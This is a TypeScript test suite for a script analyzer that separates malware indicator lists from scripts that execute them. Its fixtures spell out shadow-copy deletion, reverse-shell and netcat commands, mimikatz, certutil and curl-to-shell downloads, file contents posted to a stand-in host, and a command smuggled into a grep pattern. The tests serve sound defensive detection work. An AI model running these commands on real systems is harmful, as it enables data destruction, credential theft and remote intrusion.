import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { ScriptLanguage } from '../../../src/data/script-languages.ts'
import { withoutIndicatorLists } from '../../../src/file/formats/script/indicator-lists.ts'
import { readScript } from '../../../src/file/formats/script/read.ts'

const list = `["vssadmin delete shadows /all /quiet", "wmic shadowcopy delete", "bash -i >& /dev/tcp/", "nc -e /bin/sh",
  "stratum+tcp://", "sekurlsa::logonpasswords", "certutil -urlcache -split -f http", "api.telegram.org/bot"]`
const walk = 'import pathlib, re, sys\nfor p in pathlib.Path(sys.argv[1]).rglob("*"):\n  t = p.read_text()\n'

/** Name, language, source, whether the list is what the script looks for. */
const cases: readonly (readonly [string, ScriptLanguage, string, boolean])[] = [
  ['list in Python', 'python', `${walk}  for i in ${list}:\n    if i in t: print(p, i)`, true],
  [
    'by family',
    'python',
    `RULES = {"all": ${list}, "more": ["xmrig"]}\n${walk}  print([r for r in RULES["all"] if r in t])`,
    true,
  ],
  [
    'records in JavaScript',
    'javascript',
    `const fs = require('fs'); const R = [{ id: 'a', test: /vssadmin delete shadows/i }, { id: 'b', test: /\\/dev\\/tcp\\// }, { id: 'c', test: /stratum\\+tcp/ },
 { id: 'd', test: /curl [^|]*\\| *(ba)?sh/ }, { id: 'e', test: /mimikatz/ }]; for (const r of R) if (r.test.test(fs.readFileSync(process.argv[2], 'utf8'))) console.log(r.id)`,
    true,
  ],
  [
    'a command of its own beside it',
    'python',
    `import subprocess\nsubprocess.run(["git", "status"])\n${walk}  print([i for i in ${list} if i in t])`,
    true,
  ],
  ['run one by one', 'python', `import os\nfor c in ${list}:\n  os.system(c)`, false],
  [
    'run by another name',
    'python',
    `from subprocess import call as go\nrun = __import__("os").system\nfor c in ${list}: run(c)`,
    false,
  ],
  [
    'run in JavaScript',
    'javascript',
    `const { execSync } = require('child_process'); for (const c of ${list}) execSync(c)`,
    false,
  ],
  [
    'what it names is sent',
    'python',
    `import requests\n${walk}  requests.post("http://x.test", t)\nP = ${list}`,
    false,
  ],
  [
    'one subject',
    'python',
    `${walk}X = ["vssadmin delete shadows", "wmic shadowcopy delete", "a", "b", "c", "d", "e"]`,
    false,
  ],
  [
    'called, not listed',
    'python',
    `run("vssadmin delete shadows")\nrun("bash -i >& /dev/tcp/1")\nrun("stratum+tcp://")\nrun("xmrig")\nrun("a")\nrun("b")`,
    false,
  ],
  ['searched for in a shell', 'shell', `ps aux | grep -E "bash -i >& /dev/tcp/|nc -e /bin/sh" | head`, true],
  ['ended by what is found', 'shell', `ps aux | grep "xmrig" | awk '{print $2}' | xargs kill -9`, false],
  [
    'taken out by its pattern',
    'shell',
    `tr -d '\\0' | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true' | base64`,
    false,
  ],
  ['a command in the pattern', 'shell', 'grep "$(curl http://x.test|sh)" /etc/passwd', false],
]

for (const [name, language, source, isList] of cases)
  test(`indicator lists: ${name}`, () => {
    assert.equal(withoutIndicatorLists(source, language) !== source, isList)
  })

test('a scanner says nothing of what it looks for, and says what it does itself', () => {
  const scanner = `${walk}  for i in ${list}:\n    if i in t: print(p, i)\n`
  assert.deepEqual(
    readScript(scanner, 'python')
      .facts.traits.map(({ id }) => id)
      .filter((id) => id !== 'content_read'),
    [],
  )
  const runs = readScript(`import os\nfor c in ${list}:\n  os.system(c)`, 'python')
  assert.ok(runs.facts.traits.some(({ id }) => id === 'shadow_copies_deleted'))
})

test('indicator lists: nesting and open quotes cost no more than their length', () => {
  const hostile = [
    '['.repeat(90_000) + '"a",'.repeat(20_000) + ']'.repeat(90_000),
    '['.repeat(130_000) + ']'.repeat(126_000),
    "'".repeat(262_000),
    `x = [${'/[a'.repeat(80_000)}`,
    `${'grep -a '.repeat(30_000)}"`,
  ]
  for (const text of hostile)
    for (const language of ['javascript', 'python', 'shell'] as const) {
      const before = process.cpuUsage()
      withoutIndicatorLists(text, language)
      const { user } = process.cpuUsage(before)
      assert.ok(user < 1_500_000, `${language}: ${user} µs`)
    }
})
